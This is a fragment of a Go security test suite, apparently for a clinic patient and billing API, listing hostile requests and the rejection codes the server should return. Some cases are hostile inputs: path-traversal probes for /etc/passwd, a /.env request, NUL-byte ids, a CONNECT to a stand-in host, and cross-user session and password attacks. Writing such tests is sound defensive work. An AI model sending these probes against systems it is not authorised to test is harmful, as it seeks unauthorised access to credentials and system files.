		hostile{cat: catOthers, name: "reset password of an unknown user", method: "POST", path: "/api/users/5f0c1c52-8a53-4c8e-9d43-6c1f0e2b7a11/reset-password", token: w.admin, want: []int{404}},
		hostile{cat: catOthers, name: "reset password of a malformed id", method: "POST", path: "/api/users/not-a-uuid/reset-password", token: w.admin, want: []int{400}},
		hostile{cat: catOthers, name: "reset password with a query", method: "POST", path: "/api/users/" + w.analystID + "/reset-password?x=1", token: w.admin, want: []int{400}},
		// Sessions: one's own only; bad ids, others' and unknown ones, no token, queries. A
		// rejected logout everywhere must end nothing (the suite's tokens keep working).
		hostile{cat: catOthers, name: "list sessions without a token", method: "GET", path: "/auth/sessions", want: []int{401}},
		hostile{cat: catOthers, name: "list sessions with a refresh token", method: "GET", path: "/auth/sessions", token: w.clin2Refresh, want: []int{401}},
		hostile{cat: catOthers, name: "list sessions with a query", method: "GET", path: "/auth/sessions?userId=" + w.adminID, token: w.clin, want: []int{400}},
		hostile{cat: catOthers, name: "delete another user's session", method: "DELETE", path: "/auth/sessions/" + w.clin2Session, token: w.clin, want: []int{404}, check: wantWord(errs.NotFound)},
		hostile{cat: catOthers, name: "admin deletes another user's session", method: "DELETE", path: "/auth/sessions/" + w.clin2Session, token: w.admin, want: []int{404}},
		hostile{cat: catOthers, name: "delete an unknown session", method: "DELETE", path: "/auth/sessions/5f0c1c52-8a53-4c8e-9d43-6c1f0e2b7a11", token: w.clin, want: []int{404}},
		hostile{cat: catOthers, name: "delete a session with a malformed id", method: "DELETE", path: "/auth/sessions/not-a-session", token: w.clin, want: []int{400}},
		hostile{cat: catOthers, name: "delete a session with a NUL id", method: "DELETE", path: "/auth/sessions/%00", token: w.clin, want: []int{400}},
		hostile{cat: catOthers, name: "delete a session with a traversal id", method: "DELETE", path: "/auth/sessions/..%2F..%2Fusers", token: w.clin, want: []int{400, 404}},
		hostile{cat: catOthers, name: "delete a session without a token", method: "DELETE", path: "/auth/sessions/" + w.clin2Session, want: []int{401}},
		hostile{cat: catOthers, name: "delete a session with a query", method: "DELETE", path: "/auth/sessions/" + w.clin2Session + "?all=1", token: w.clin, want: []int{400}},
		hostile{cat: catOthers, name: "logout everywhere without a token", method: "DELETE", path: "/auth/sessions", want: []int{401}},
		hostile{cat: catOthers, name: "logout everywhere with a refresh token", method: "DELETE", path: "/auth/sessions", token: w.clin2Refresh, want: []int{401}},
		hostile{cat: catOthers, name: "logout everywhere with a query", method: "DELETE", path: "/auth/sessions?userId=" + w.clinID, token: w.clin, want: []int{400}},
		// Device tokens: oversized, another user's (an unknown device for this account).
		hostile{cat: catOthers, name: "login with a 257-character device token", method: "POST", path: "/auth/login",
			body: `{"email":"clinician@example.org","password":"` + matrixPassword + `","deviceToken":"` + strings.Repeat("H", 257) + `"}`, want: []int{400}},
		hostile{cat: catOthers, name: "login with another user's device token", method: "POST", path: "/auth/login",
			body: `{"email":"` + allAdminEmail + `","password":"not the admin password","deviceToken":"` + w.clinDevice + `"}`, want: []int{401, 429}},
		hostile{cat: catOthers, name: "login with a device token of the wrong type", method: "POST", path: "/auth/login",
			body: `{"email":"clinician@example.org","password":"` + matrixPassword + `","deviceToken":42}`, want: []int{400}},
		hostile{cat: catOthers, name: "login as a disabled user", method: "POST", path: "/auth/login", body: `{"email":"victim@example.org","password":"` + matrixPassword + `"}`, want: []int{401, 429}},
		hostile{cat: catOthers, name: "login with another user's password", method: "POST", path: "/auth/login", body: `{"email":"` + allAdminEmail + `","password":"` + matrixPassword + `"}`, want: []int{401, 429}},
	)
	for _, r := range []struct{ path string }{{"/api/patients/" + w.p1}, {"/api/patients/" + w.p1 + "/history"}, {"/api/patients/" + w.p1 + "/billing-account"},
		{"/api/patients/" + w.p1 + "/invoices"}, {"/api/patients?q=p1"}, {"/api/billing/invoices/" + w.paid}, {"/api/billing/accounts/" + w.account},
		{"/api/billing/accounts?patientId=" + w.p1}, {"/api/billing/invoices?patientId=" + w.p1}, {"/api/users/" + w.clinID}} {
		add(hostile{cat: catOthers, name: "analyst reads " + r.path, method: "GET", path: r.path, token: w.analyst, want: []int{403}, check: wantWord(errs.PermissionDenied)})
	}
	for _, id := range []string{w.adminID, w.billID, w.analystID} {
		add(hostile{cat: catOthers, name: "clinician reads another user", method: "GET", path: "/api/users/" + id, token: w.clin, want: []int{403}},
			hostile{cat: catOthers, name: "billing disables another user", method: "PATCH", path: "/api/users/" + id, token: w.bill, body: `{"disabled":true}`, want: []int{403}})
	}

	// State, replays and idempotency: refused transitions and conflicts change nothing.
	add(hostile{cat: catState, name: "Idempotency-Key replayed", method: "POST", path: pat, token: w.clin, body: w.idemBody,
		headers: []string{"Idempotency-Key", w.idemKey}, want: []int{200, 201}, check: func(o outcome) error {
			var v struct{ ID string }
			if json.Unmarshal(o.body, &v) != nil || v.ID != w.idemID {
				return fmt.Errorf("the replay answered %s, not the first result %s", o.body, w.idemID)
			}
			return nil
		}},
		hostile{cat: catState, name: "Idempotency-Key with another body", method: "POST", path: pat, token: w.clin, body: w.patientBody("idem-other@example.org"),
			headers: []string{"Idempotency-Key", w.idemKey}, want: []int{409}},
		hostile{cat: catState, name: "duplicate email", method: "POST", path: pat, token: w.clin, body: w.patientBody("P1@EXAMPLE.ORG"), want: []int{409}},
		hostile{cat: catState, name: "update to a taken email", method: "PUT", path: "/api/patients/" + w.p1, token: w.clin,
			body: `{"name":"x","email":"p2@example.org","address":"x","dateOfBirth":"1980-01-01"}`, want: []int{409}},
		hostile{cat: catState, name: "read deleted", method: "GET", path: "/api/patients/" + w.deleted, token: w.clin, want: []int{410}},
		hostile{cat: catState, name: "update deleted", method: "PUT", path: "/api/patients/" + w.deleted, token: w.clin, body: routes[6].body, want: []int{404, 410}},
		hostile{cat: catState, name: "delete deleted", method: "DELETE", path: "/api/patients/" + w.deleted, token: w.clin, want: []int{410}},
		hostile{cat: catState, name: "issue an open invoice", method: "POST", path: "/api/billing/invoices/" + w.open + "/issue", token: w.bill, want: []int{409}},
		hostile{cat: catState, name: "pay a draft", method: "POST", path: "/api/billing/invoices/" + w.draft + "/payments", token: w.bill, body: `{"amount":1,"method":"cash"}`, want: []int{409}},
		hostile{cat: catState, name: "overpay", method: "POST", path: "/api/billing/invoices/" + w.open + "/payments", token: w.bill, body: `{"amount":1001,"method":"cash"}`, want: []int{409}},
		hostile{cat: catState, name: "pay a paid invoice", method: "POST", path: "/api/billing/invoices/" + w.paid + "/payments", token: w.bill, body: `{"amount":1,"method":"cash"}`, want: []int{409}},
		hostile{cat: catState, name: "void a paid invoice", method: "POST", path: "/api/billing/invoices/" + w.paid + "/void", token: w.bill, want: []int{409}},
		hostile{cat: catState, name: "invoice for an unknown patient", method: "POST", path: "/api/billing/invoices", token: w.bill, body: w.invoiceBody("7b0c2f8e-9a51-4a7e-8a3e-0f1d2c3b4a59")},
		hostile{cat: catState, name: "user with a taken email", method: "POST", path: "/api/users", token: w.admin,
			body: `{"email":"CLINICIAN@example.org","password":"` + matrixPassword + `","role":"admin"}`, want: []int{409}},
		hostile{cat: catState, name: "user with a short password", method: "POST", path: "/api/users", token: w.admin,
			body: `{"email":"short-pw@example.org","password":"short","role":"admin"}`, want: []int{400}},
		hostile{cat: catState, name: "stale weak If-Match on an update", method: "PUT", path: "/api/patients/" + w.p1, token: w.clin,
			body: routes[6].body, headers: []string{"If-Match", `W/"7"`}, want: []int{412}},
	)

	// Unknown routes and methods.
	// "/" is the staff console's (consoleCases).
	for _, p := range []string{"/api", "/api/", "/api/patients/", "/API/patients", "/api/patientsx", "/api/patients%2f", "/auth/users",
		"/auth/login/", "/auth", "/metrics", "/debug/pprof/", "/healthz", "/.env", "/api/billing", "/api/billing/", "/api/analytics",
		"/api/users/audit/x", "/auth/.well-known/", "/api/patients/" + w.p1 + "/history/x", "/%2e%2e/%2e%2e/etc/passwd", "/api/../../etc/passwd"} {
		add(hostile{cat: catRoutes, name: "GET " + p, method: "GET", path: p, token: w.admin, want: []int{404, 405}})
	}
	for _, m := range []struct{ method, path string }{
		{"TRACE", pat}, {"OPTIONS", pat}, {"PROPFIND", pat}, {"FOO", pat}, {"HEAD", pat}, {"get", pat}, {"PATCH", pat},
		{"DELETE", pat}, {"PATCH", "/api/patients/" + w.p1}, {"PUT", "/api/billing/invoices/" + w.draft}, {"DELETE", "/api/billing/invoices/" + w.draft},
		{"POST", "/api/analytics/summary"}, {"DELETE", "/api/users/" + w.clinID}, {"PUT", "/api/users/" + w.clinID}, {"GET", "/auth/login"},
		{"DELETE", "/auth/logout"}, {"POST", "/auth/validate"}, {"POST", "/api/audit"}, {"POST", "/api/audit/verify"}, {"POST", "/api/billing/audit/verify"}, {"POST", "/api/analytics/audit/verify"}, {"POST", "/api/gateway/audit/verify"}, {"GET", "/api/billing/invoices/" + w.draft + "/void"},
		{"CONNECT", "evil.example:443"}, {"M-SEARCH", "*"},
	} {
		add(hostile{cat: catRoutes, name: m.method + " " + m.path, method: m.method, path: m.path, token: w.admin, protocol: true})
	}
	// net/http answers OPTIONS * itself (200, no body), before any handler.
	add(hostile{cat: catRoutes, name: "OPTIONS *", method: "OPTIONS", path: "*", protocol: true, want: []int{200}})
	return out
}

// otherKind returns an id of a resource of another kind than the route's.
func (w *attackWorld) otherKind(path string) string {
	if strings.HasPrefix(path, "/api/patients") || strings.HasPrefix(path, "/fhir/Patient") {
		return w.draft
	}
	return w.p1
}

// wrongFor returns values of the wrong JSON type (or out of range) for a field whose valid
// value is v.
func wrongFor(v string) []string {
	switch v[0] {
	case '"':
		return []string{`123`, `true`, `["x"]`, `{"x":"y"}`, `1e400`}
	case '[':
		return []string{`"x"`, `{}`, `[[1]]`}
	case '{':
		return []string{`"x"`, `[]`}
	case 't', 'f':
		return []string{`"true"`, `1`, `[]`}
	}
	return []string{`"1"`, `true`, `1.5`, `-1`, `0`, `9223372036854775808`, `1e400`, `[]`, `{}`}
}

// unknownFields returns an object of n unknown fields.
func unknownFields(n int) string {
	var kv []string
	for i := range n {
		kv = append(kv, "f"+strconv.Itoa(i), "1")
	}
	return obj(kv...)
}

// controlQueryWant is what a search parameter with a percent-encoded byte p may get: invalid
// UTF-8 is refused; a control character in free text may also just find nothing.
func controlQueryWant(param, p string) []int {
	switch p {
	case "%00", "%0d%0a", "%1b":
		if param == "q" || param == "actor" {
			return []int{200, 400}
		}
	}
	return nil
}

// emptyArray checks a read found nothing.
func emptyArray(o outcome) error {
	if o.status != 200 {
		return nil
	}
	var v []json.RawMessage
	if err := json.Unmarshal(o.body, &v); err != nil || len(v) != 0 {
		return fmt.Errorf("want an empty array: %.200s", o.body)
	}
	return nil
}

// replacedID checks that a hostile X-Request-ID was replaced by a new one.
func replacedID(sent string) func(outcome) error {
	return func(o outcome) error {
		if got := o.header.Get("X-Request-ID"); got == sent || got == "" {
			return fmt.Errorf("X-Request-ID %q echoed", sent)
		}
		return nil
	}
}
